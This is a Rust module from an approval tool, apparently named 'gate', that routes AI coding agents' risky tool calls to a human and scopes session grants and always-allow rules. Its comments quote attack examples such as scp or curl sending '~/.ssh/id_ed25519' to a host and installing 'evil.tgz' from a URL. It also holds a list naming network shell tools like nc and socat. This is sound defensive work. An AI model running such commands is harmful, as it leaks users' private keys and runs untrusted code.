//! Asking a human. When the verdict is `ask`, the hook cannot prompt on the
//! agent's terminal (Claude Code and Codex give hooks no controlling
//! terminal; Gemini redraws over them), so gate brokers the question:
//!
//! 1. a session grant ("allow for this session") that covers every part of
//!    the call that asks answers at once;
//! 2. otherwise, when an inbox (`gate watch`) is open, the question is
//!    stored and the hook waits for the first answer from any surface
//!    (`gate watch`, `gate approve`/`gate deny`), up to the ask timeout;
//!    no answer in time is an expiry, which denies;
//! 3. otherwise the call goes to the agent's own permission dialog, and the
//!    human's answer there is reconciled later from the agent's events;
//! 4. where the agent cannot ask (headless Claude, Codex's PreToolUse,
//!    Gemini, which hangs on `ask`), gate denies and says how to approve.

use std::path::{Path, PathBuf};
use std::time::Duration;

use serde_json::json;

use crate::action::{Action, Kind};
use crate::hook::{Adapter, AgentAsk};
use crate::paths::Paths;
use crate::policy::{CommandVerdict, Decision, Evaluation};
use crate::store::questions::Question;
use crate::store::{Receipt, Source, Store, StoreError, Verdict};
use crate::{clock, redact};

/// The default time a question waits for an answer.
pub const DEFAULT_ASK_TIMEOUT_SECS: u64 = 300;
/// Questions never wait longer than this, which stays below the hook
/// timeout `gate install` sets (900 s).
pub const MAX_ASK_TIMEOUT_SECS: u64 = 840;
/// An inbox whose heartbeat is older than this is closed. Inboxes beat
/// every [`HEARTBEAT_EVERY_MS`], and a waiting hook looks twice a second,
/// so it learns of a closed inbox within about a second.
pub const HEARTBEAT_FRESH_MS: i64 = 1_200;
pub const HEARTBEAT_EVERY_MS: u64 = 300;
/// A waiting hook falls back once no inbox has been open for this long.
pub const INBOX_GONE_MS: i64 = 1_000;
/// Where questions may be answered when the user's settings do not say.
pub const DEFAULT_ASK_VIA: &[&str] = &["watch", "web"];

/// How a question was settled.
#[derive(Debug, Clone)]
pub enum Settled {
    /// A session grant covered it.
    Granted { grant_ids: Vec<i64>, approver: Option<String> },
    /// A human answered from `gate watch`, the page or the CLI.
    Answered(Question),
    /// No one answered in time.
    Expired { question: Question, secs: u64 },
    /// No inbox: hand the call to the agent's own dialog.
    AgentDialog,
    /// No inbox, and the agent cannot ask either.
    NoOneCanAsk,
    /// The last inbox closed while the question waited; `dialog` says
    /// whether the agent's own dialog takes it over.
    InboxClosed { question: Question, dialog: bool },
    /// The agent died while its question waited.
    Abandoned { question: Question },
}

/// The ask timeout: `GATE_ASK_TIMEOUT` (seconds) for one call, else the
/// policy settings, else five minutes; capped below the hook timeout.
pub fn ask_timeout(settings_secs: Option<u64>) -> u64 {
    let from_env = std::env::var("GATE_ASK_TIMEOUT").ok().and_then(|v| v.trim().parse::<u64>().ok()).filter(|v| *v > 0);
    from_env.or(settings_secs).unwrap_or(DEFAULT_ASK_TIMEOUT_SECS).min(MAX_ASK_TIMEOUT_SECS)
}

fn inbox_dir(paths: &Paths) -> PathBuf {
    paths.data_dir.join("inbox")
}

/// An open inbox (`gate watch`, `gate serve`): a heartbeat file
/// `inbox/<surface>-<pid>.beat` in gate's data directory, touched every
/// [`HEARTBEAT_EVERY_MS`] while it runs and removed when it closes. A
/// killed inbox leaves its file, but its heartbeat goes stale and its
/// process is gone, so hooks stop waiting for it all the same.
pub struct Inbox {
    path: PathBuf,
    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
}

impl Inbox {
    pub fn open(paths: &Paths, surface: &str) -> std::io::Result<Inbox> {
        let dir = inbox_dir(paths);
        std::fs::create_dir_all(&dir)?;
        let path = dir.join(format!("{surface}-{}.beat", std::process::id()));
        std::fs::write(&path, clock::now_ms().to_string())?;
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let (p, s) = (path.clone(), stop.clone());
        std::thread::spawn(move || {
            while !s.load(std::sync::atomic::Ordering::SeqCst) {
                let _ = std::fs::write(&p, clock::now_ms().to_string());
                std::thread::sleep(Duration::from_millis(HEARTBEAT_EVERY_MS));
            }
        });
        Ok(Inbox { path, stop })
    }
}

impl Drop for Inbox {
    fn drop(&mut self) {
        self.stop.store(true, std::sync::atomic::Ordering::SeqCst);
        let _ = std::fs::remove_file(&self.path);
    }
}

/// Is an inbox of one of `surfaces` open: a fresh heartbeat of a live process?
pub fn inbox_open(paths: &Paths, surfaces: &[&str]) -> bool {
    let Ok(entries) = std::fs::read_dir(inbox_dir(paths)) else { return false };
    let now = std::time::SystemTime::now();
    entries.flatten().any(|e| {
        let name = e.file_name().to_string_lossy().into_owned();
        let Some((surface, pid)) = name.strip_suffix(".beat").and_then(|n| n.rsplit_once('-')) else { return false };
        let Ok(pid) = pid.parse::<i32>() else { return false };
        let fresh = e
            .metadata()
            .and_then(|m| m.modified())
            .ok()
            .and_then(|m| now.duration_since(m).ok().or(Some(Duration::ZERO)))
            .is_some_and(|age| (age.as_millis() as i64) <= HEARTBEAT_FRESH_MS);
        // SAFETY: signal 0 only checks that the process exists.
        let alive = pid > 0
            && (unsafe { libc::kill(pid, 0) } == 0
                || std::io::Error::last_os_error().raw_os_error() == Some(libc::EPERM));
        surfaces.contains(&surface) && fresh && alive
    })
}

/// The surfaces questions may wait for: the settings' `ask_via`, or the default.
pub fn ask_via(settings: &Option<Vec<String>>) -> Vec<String> {
    settings.clone().unwrap_or_else(|| DEFAULT_ASK_VIA.iter().map(|s| s.to_string()).collect())
}

/// The grant keys of every part of the call that asks. A session grant
/// covers a later call only when it covers all of them.
pub fn grant_keys(action: &Action, eval: &Evaluation) -> Vec<String> {
    let mut keys = Vec::new();
    for part in eval.commands.iter().filter(|p| p.decision == Decision::Ask) {
        // Keys are stored: masked, as every stored text is (and looked up
        // masked). A key with a secret masked out would also cover the same
        // command with anything else in the secret's place, which no human
        // saw: such a grant covers nothing but the call it answers.
        let raw = part_key(action, part);
        let masked = redact::mask(&raw);
        // A word the shell expands (`>> "$f"`) says nothing of what it will
        // be next time (`f=~/.bashrc` may come before it): such a part, too,
        // is covered only for the call the human saw.
        let expands = action.kind == Kind::Shell && raw.contains('$');
        let key = if masked == raw.as_str() && !holds_secret(action) && !expands {
            raw
        } else {
            let nonce = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map_or(0, |d| d.as_nanos());
            // No text of it at all: the key names nothing but this call.
            format!("once:{}-{nonce}", std::process::id())
        };
        if !keys.contains(&key) {
            keys.push(key);
        }
    }
    keys
}

/// Whether masking changes anything the call carries: then no key or rule
/// built from its text may be stored or reused.
pub fn holds_secret(action: &Action) -> bool {
    redact::mask_json_for(&action.args, action.kind == Kind::Shell) != action.args
}

fn file_tool(action: &Action) -> bool {
    matches!(action.kind, Kind::Read | Kind::Write | Kind::Edit | Kind::Search)
}

fn part_key(action: &Action, part: &CommandVerdict) -> String {
    match (&part.rule, part.basis) {
        // A rule's ask on a file covers that file only: approving one
        // secret read must not approve every secret.
        (Some(r), crate::policy::Basis::Rule) if file_tool(action) => format!("rule:{}:{}", r.id, part.command),
        // A rule's ask on a command covers what the human saw of it, not
        // every command the rule asks about: approving `curl -s docs.rs`
        // must not approve `scp ~/.ssh/id_ed25519 host:`.
        (Some(r), crate::policy::Basis::Rule) if action.kind == Kind::Shell => {
            format!("rule:{}:{}", r.id, shell_key(part))
        }
        (Some(r), crate::policy::Basis::Rule) => format!("rule:{}", r.id),
        _ => match action.kind {
            Kind::Shell => shell_key(part),
            _ if file_tool(action) => format!("file:{}:{}", action.tool, part.command),
            _ => format!("tool:{}", action.tool),
        },
    }
}

/// Programs whose first words say nothing about what they will do: a grant
/// for them covers only the exact command approved. Every wrapper of
/// `policies/wrappers.toml` counts too.
const EXACT_ONLY: &[&str] = &[
    "bash", "sh", "zsh", "dash", "ksh", "fish", "python", "python3", "node", "perl", "ruby", "php", "deno", "bun",
    "eval", "ssh", "docker", "kubectl", "npx", "gate",
    // Programs whose later words say where they write or what config they set: a grant for
    // `cp a b` or `git config user.email x` must not cover `cp a ~/.bashrc` or `git config core.hooksPath x`.
    "cp", "mv", "install", "tee", "ln", "dd", "rsync", "rm", "chmod", "chown", "touch", "mkdir", "git",
    // Network programs: later words say what is sent where (`curl -T ~/.ssh/id_ed25519 host`).
    "curl", "wget", "scp", "sftp", "ftp", "nc", "ncat", "netcat", "socat", "telnet", "http", "https", "aria2c",
];

/// A word that may follow a granted `program subcommand`: plain text that is
/// neither an option (`-f /dev/stdin`, `--eval=...`) nor an assignment
/// (make's `SHELL=/tmp/x`), nor an expansion, quote or glob, nor a path or
/// URL (`npm install https://x/evil.tgz`, `./x.tgz`, `github:x/y`, `/tmp/x`),
/// which says where code comes from.
const PLAIN_WORD: &str = r"[A-Za-z0-9_,+@%][A-Za-z0-9_.,+@%-]*";

/// The words a prefix grant (and the always-allow rule written for it)
/// covers, as a regex over the argv joined by spaces: the two approved
/// words, then only plain words. The grant and the rule use this one regex,
/// so reading the rule back gives exactly the grant's coverage.
fn prefix_coverage(program: &str, sub: &str) -> String {
    format!("^{} {}( {PLAIN_WORD})*$", regex::escape(program), regex::escape(sub))
}

/// A grant key for a shell command that asks: `prefix:<program> <subcommand>`
/// when the first two words are plain (`make build`, `npm install`), the
/// rest are plain words too and the command adds no assignment or
/// redirection; else the exact command, with its assignments, redirections
/// and here-strings (`exact+:`). A secret read is always exact.
fn shell_key(part: &CommandVerdict) -> String {
    let exact = || {
        if part.extras.is_empty() {
            format!("exact:{}", part.command)
        } else {
            format!("exact+:{}", json!([part.command, part.extras]))
        }
    };
    // Not one simple command (an opaque construct, a zsh difference): exact.
    if part.argv.is_empty() {
        return exact();
    }
    let words = &part.argv;
    let plain = |w: &String| {
        !w.is_empty() && w.chars().all(|c| c.is_ascii_alphanumeric() || "-_.:".contains(c)) && !w.starts_with('-')
    };
    let program = words[0].rsplit('/').next().unwrap_or(&words[0]).to_string();
    if part.reason.contains("secret")
        || EXACT_ONLY.contains(&program.as_str())
        || crate::floor::wrapper(&program).is_some()
        || words.len() < 2
        || !words[..2].iter().all(plain)
        || !part.extras.is_empty()
    {
        return exact();
    }
    let covered =
        regex::Regex::new(&prefix_coverage(&words[0], &words[1])).is_ok_and(|re| re.is_match(&words.join(" ")));
    if !covered {
        return exact();
    }
    format!("prefix:{} {}", words[0], words[1])
}

/// A word written into a rule's `command` so that the rule's word splitting
/// and globbing give back exactly this word, if it can be.
fn rule_word(w: &str) -> Option<String> {
    let mut esc = String::new();
    for c in w.chars() {
        if matches!(c, '*' | '?' | '[' | ']' | '\\') {
            esc.push('\\');
        }
        esc.push(c);
    }
    match (w.contains('\''), w.contains('"')) {
        (false, _) => Some(format!("'{esc}'")),
        (true, false) => Some(format!("\"{esc}\"")),
        (true, true) => None,
    }
}

/// The rule "always allow" would add to the user policy, or None when no
/// allow rule can say exactly what a grant would cover: a rule's ask beats
/// any allow, and an allow rule never covers assignments or redirections.
/// A shell command gets one rule per part that asks: for a prefix grant,
/// the prefix and its coverage regex; for an exact grant, the exact words
/// and a regex that admits nothing more.
pub fn always_rule(action: &Action, eval: &Evaluation, keys: &[String]) -> Option<String> {
    if keys.iter().any(|k| k.starts_with("rule:") || k.starts_with("exact+:")) {
        return None;
    }
    let quote = |s: &str| serde_json::to_string(s).unwrap_or_default();
    let asks: Vec<&CommandVerdict> = eval.commands.iter().filter(|p| p.decision == Decision::Ask).collect();
    if action.kind == Kind::Shell {
        let mut blocks: Vec<String> = Vec::new();
        let mut done: Vec<String> = Vec::new();
        for part in asks {
            let key = part_key(action, part);
            if done.contains(&key) {
                continue;
            }
            done.push(key.clone());
            let (command, re) = if shell_key(part).starts_with("prefix:") {
                let (w0, w1) = (&part.argv[0], &part.argv[1]);
                (format!("{w0} {w1}"), prefix_coverage(w0, w1))
            } else {
                if part.argv.is_empty() {
                    return None;
                }
                let words: Option<Vec<String>> = part.argv.iter().map(|w| rule_word(w)).collect();
                (words?.join(" "), format!("^{}$", regex::escape(&part.argv.join(" "))))
            };
            let id = readable_id(&[&command]);
            blocks.push(format!(
                "[[rule]]\nid = \"{id}\"\ndecision = \"allow\"\ncommand = [{}]\ncommand_regex = {}\n",
                quote(&command),
                quote(&re)
            ));
        }
        return (!blocks.is_empty()).then(|| unique_ids(&blocks.join("\n"), &[]));
    }
    let file_names: Vec<&str> = asks.iter().map(|p| p.command.rsplit('/').next().unwrap_or(&p.command)).collect();
    let id = match action.kind {
        Kind::Read | Kind::Write | Kind::Edit | Kind::Search if !file_names.is_empty() => {
            readable_id(&[&[action.tool.as_str()][..], &file_names].concat())
        }
        _ => readable_id(&[&action.tool]),
    };
    let files: Vec<String> = asks.iter().map(|p| quote(&p.command)).collect();
    match action.kind {
        Kind::Read | Kind::Write | Kind::Edit | Kind::Search if !files.is_empty() => Some(format!(
            "[[rule]]\nid = \"{id}\"\ndecision = \"allow\"\ntool = {}\npath = [{}]\n",
            quote(&action.tool),
            files.join(", ")
        )),
        _ => Some(format!("[[rule]]\nid = \"{id}\"\ndecision = \"allow\"\ntool = {}\n", quote(&action.tool))),
    }
}

/// A rule id people can read, from what the rule allows: `allow-npm-test`.
fn readable_id(words: &[&str]) -> String {
    let mut id = String::from("allow-");
    for c in words.join(" ").chars().flat_map(char::to_lowercase) {
        if c.is_ascii_alphanumeric() {
            id.push(c);
        } else if !id.ends_with('-') {
            id.push('-');
        }
        if id.len() >= 40 {
            break;
        }
    }
    match id.trim_end_matches('-') {
        "allow" => "allow-always".into(),
        id => id.to_string(),
    }
}

/// The rule text with each `id = "X"` line made unique among `taken` and
/// the ids before it: `X`, else `X-2`, `X-3`...
pub fn unique_ids(rule: &str, taken: &[String]) -> String {
    let mut seen: Vec<String> = taken.to_vec();
    let mut out = String::new();
    for line in rule.split_inclusive('\n') {
        match line.trim_end().strip_prefix("id = \"").and_then(|r| r.strip_suffix('"')) {
            Some(id) => {
                let free = std::iter::once(id.to_string())
                    .chain((2..).map(|n| format!("{id}-{n}")))
                    .find(|c| !seen.contains(c))
                    .expect("an unbounded list of candidates");
                out.push_str(&format!("id = \"{free}\"\n"));
                seen.push(free);
            }
            None => out.push_str(line),
        }
    }
    out
}

/// The rule ids a policy text uses, read line by line (so a broken file still gives its ids).
pub fn ids_in(text: &str) -> Vec<String> {
    text.lines()
        .filter_map(|l| {
            let rest = l.trim().strip_prefix("id")?.trim_start().strip_prefix('=')?.trim();
            Some(rest.trim_matches(|c| c == '"' || c == '\'').to_string())
        })
        .collect()
}

/// Settle an `ask`. `set_deadline` lets the hook's watchdog wait as long
/// as the question may.
#[allow(clippy::too_many_arguments)] // each is a separate fact the hook holds; a struct would only rename them
pub fn settle(
    paths: &Paths,
    store: &mut Store,
    action: &Action,
    eval: &Evaluation,
    timeout_secs: u64,
    agent_ask: AgentAsk,
    via: &[String],
    set_deadline: &dyn Fn(i64),
) -> Result<Settled, StoreError> {
    let keys = grant_keys(action, eval);
    if !keys.is_empty() {
        let mut ids = Vec::new();
        let mut approver = None;
        for k in &keys {
            match store.grant_for(&action.session_id, k)? {
                Some((id, who, _)) => {
                    ids.push(id);
                    approver = approver.or(who);
                }
                None => break,
            }
        }
        if ids.len() == keys.len() {
            return Ok(Settled::Granted { grant_ids: ids, approver });
        }
    }
    // `cli` in ask_via: a question waits for `gate approve`/`deny` (or any
    // inbox) even when no inbox is open.
    let inboxes: Vec<&str> = via.iter().map(String::as_str).filter(|s| *s != "cli").collect();
    let wait_without_inbox = via.iter().any(|s| s == "cli");
    if !wait_without_inbox && !inbox_open(paths, &inboxes) {
        return Ok(if agent_ask == AgentAsk::Dialog { Settled::AgentDialog } else { Settled::NoOneCanAsk });
    }
    let now = clock::now_ms();
    let expires = now + (timeout_secs as i64) * 1000;
    set_deadline(expires + 10_000);
    let q = Question {
        created_ms: now,
        expires_ms: expires,
        session_id: Some(action.session_id.clone()),
        tool_use_id: action.tool_use_id.clone(),
        agent: Some(action.agent.as_str().to_string()),
        cwd: Some(action.cwd.clone()),
        tool: Some(action.tool.clone()),
        tool_kind: Some(action.kind.as_str().to_string()),
        target: action.target.as_deref().map(|t| redact::cut(&redact::mask(t))),
        args: Some(redact::mask_json_for(&action.args, action.kind == crate::action::Kind::Shell).to_string()),
        rule_id: eval.verdict.rule.as_ref().map(|r| r.id.clone()),
        rule_origin: eval.verdict.rule.as_ref().map(|r| r.origin.clone()),
        reason: Some(redact::mask(&eval.verdict.reason).into_owned()),
        grant_key: if keys.is_empty() { None } else { Some(json!(keys).to_string()) },
        // A rule that would have to spell out a secret is not offered: it
        // would be stored here, and written into the policy.
        always_rule: always_rule(action, eval, &keys)
            .filter(|r| !holds_secret(action) && redact::mask(r) == r.as_str()),
        state: "pending".into(),
        ..Default::default()
    };
    let id = store.insert_question(&q)?;
    let mut inbox_seen_ms = clock::now_ms();
    let mut ticks = 0u64;
    loop {
        std::thread::sleep(Duration::from_millis(100));
        ticks += 1;
        let now = clock::now_ms();
        let current = store.question(id)?;
        // Twice a second: is anyone still there to answer, and is the agent
        // still waiting for one?
        if ticks % 5 == 0 && current.as_ref().is_some_and(|q| q.state == "pending") {
            if !crate::cmd::fault::agent_alive() {
                if let Some(q) = store.close_question(id, "abandoned", now)?.filter(|q| q.state == "abandoned") {
                    return Ok(Settled::Abandoned { question: q });
                }
                continue;
            }
            if wait_without_inbox || inbox_open(paths, &inboxes) {
                inbox_seen_ms = now;
            } else if now - inbox_seen_ms >= INBOX_GONE_MS {
                if let Some(q) = store.close_question(id, "withdrawn", now)?.filter(|q| q.state == "withdrawn") {
                    return Ok(Settled::InboxClosed { question: q, dialog: agent_ask == AgentAsk::Dialog });
                }
                continue;
            }
        }
        match current {
            Some(q) if q.state == "answered" => return Ok(Settled::Answered(q)),
            Some(q) if q.state == "expired" => return Ok(Settled::Expired { question: q, secs: timeout_secs }),
            _ if now >= expires => {
                return match store.expire_question(id, now)? {
                    Some(q) if q.state == "answered" => Ok(Settled::Answered(q)),
                    Some(q) => Ok(Settled::Expired { question: q, secs: timeout_secs }),
                    None => {
                        Ok(Settled::Expired { question: Question { id, ..Default::default() }, secs: timeout_secs })
                    }
                };
            }
            _ => {}
        }
    }
}

/// Append rows for calls handed to the agent's dialog that the human
/// rejected there, as the agent's transcript records them
/// ([`Adapter::is_rejection`]). That a call ran arrives as a post-tool
/// event instead, which says the agent let it run, not who did.
pub fn reconcile_rejections(
    adapter: &dyn Adapter,
    store: &mut Store,
    session: &str,
    transcript: Option<&str>,
) -> Result<(), StoreError> {
    let asks = store.unresolved_asks(session)?;
    if asks.is_empty() {
        return Ok(());
    }
    let Some(text) = transcript.and_then(|t| read_tail(Path::new(t), 8 * 1024 * 1024)) else { return Ok(()) };
    for d in asks {
        let Some(id) = &d.tool_use_id else { continue };
        let rejected = lines_that_may_name(&text, id).any(|l| adapter.is_rejection(&String::from_utf8_lossy(l), id));
        if !rejected {
            continue;
        }
        let me = crate::identity::os_user();
        let mut rec = Receipt::answer(&d, Verdict::Denied, Source::Agent, Some(&me));
        rec.reason = Some("rejected in the agent's own permission dialog (from the transcript)".into());
        store.append(&mut rec)?;
    }
    Ok(())
}

/// The lines of a transcript that can hold a record of the call `id`. A
/// transcript is JSON, one record a line, and an id of letters, digits, `_`
/// and `-` is written as itself in any JSON text, so only the lines it
/// occurs in (found in one pass over the bytes, not one search per line,
/// and no line decoded until it is one of them); for any other id, every
/// line.
fn lines_that_may_name<'t>(text: &'t [u8], id: &str) -> Box<dyn Iterator<Item = &'t [u8]> + 't> {
    let trim = |l: &'t [u8]| l.strip_suffix(b"\r").unwrap_or(l);
    let plain = !id.is_empty() && id.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-');
    if !plain {
        let body = text.strip_suffix(b"\n").unwrap_or(text);
        return Box::new(body.split(|&b| b == b'\n').map(trim).filter(move |_| !text.is_empty()));
    }
    let found: Vec<usize> = memchr::memmem::find_iter(text, id.as_bytes()).collect();
    let mut last_start = None;
    Box::new(found.into_iter().filter_map(move |at| {
        let start = memchr::memrchr(b'\n', &text[..at]).map_or(0, |i| i + 1);
        if last_start == Some(start) {
            return None; // the same line again
        }
        last_start = Some(start);
        let end = memchr::memchr(b'\n', &text[at..]).map_or(text.len(), |i| at + i);
        Some(trim(&text[start..end]))
    }))
}

/// The last `max` bytes of a file, as they are (a line cut at the start is
/// harmless: it cannot be a whole record).
fn read_tail(path: &Path, max: u64) -> Option<Vec<u8>> {
    use std::io::{Read, Seek, SeekFrom};
    let mut f = std::fs::File::open(path).ok()?;
    let len = f.metadata().ok()?.len();
    if len > max {
        f.seek(SeekFrom::Start(len - max)).ok()?;
    }
    let mut buf = Vec::with_capacity(len.min(max) as usize + 1);
    f.take(max).read_to_end(&mut buf).ok()?;
    Some(buf)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_lines_that_may_name_a_call_are_every_line_it_is_in() {
        let text = b"a toolu_A x\nb\ntoolu_A and toolu_A again\r\nc toolu_AB\n\nlast toolu_A";
        let cases: &[(&str, &[&str])] = &[
            ("toolu_A", &["a toolu_A x", "toolu_A and toolu_A again", "c toolu_AB", "last toolu_A"]),
            ("toolu_AB", &["c toolu_AB"]),
            ("toolu_Z", &[]),
            // Not plain: every line, as `str::lines` gives them.
            ("toolu/A", &["a toolu_A x", "b", "toolu_A and toolu_A again", "c toolu_AB", "", "last toolu_A"]),
        ];
        for (id, want) in cases {
            let got: Vec<&[u8]> = lines_that_may_name(text, id).collect();
            let want: Vec<&[u8]> = want.iter().map(|l| l.as_bytes()).collect();
            assert_eq!(got, want, "{id}");
            let as_str_lines: Vec<&str> = std::str::from_utf8(text).unwrap().lines().collect();
            if id.contains('/') {
                assert_eq!(got.len(), as_str_lines.len(), "every line, as str::lines splits them");
            }
        }
    }

    #[test]
    fn always_allow_ids_are_readable_and_unique() {
        let cases: &[(&[&str], &str)] = &[
            (&["npm test"], "allow-npm-test"),
            (&["ls -la /tmp/x.txt"], "allow-ls-la-tmp-x-txt"),
            (&["Read", ".env"], "allow-read-env"),
            (&["!!"], "allow-always"),
        ];
        for (words, want) in cases {
            assert_eq!(readable_id(words), *want, "{words:?}");
        }
        let rule = "[[rule]]\nid = \"allow-npm-test\"\ndecision = \"allow\"\n\n[[rule]]\nid = \"allow-npm-test\"\n";
        let taken = ids_in("[[rule]]\nid = \"allow-npm-test\"\n");
        assert_eq!(
            unique_ids(rule, &taken),
            "[[rule]]\nid = \"allow-npm-test-2\"\ndecision = \"allow\"\n\n[[rule]]\nid = \"allow-npm-test-3\"\n"
        );
    }
}
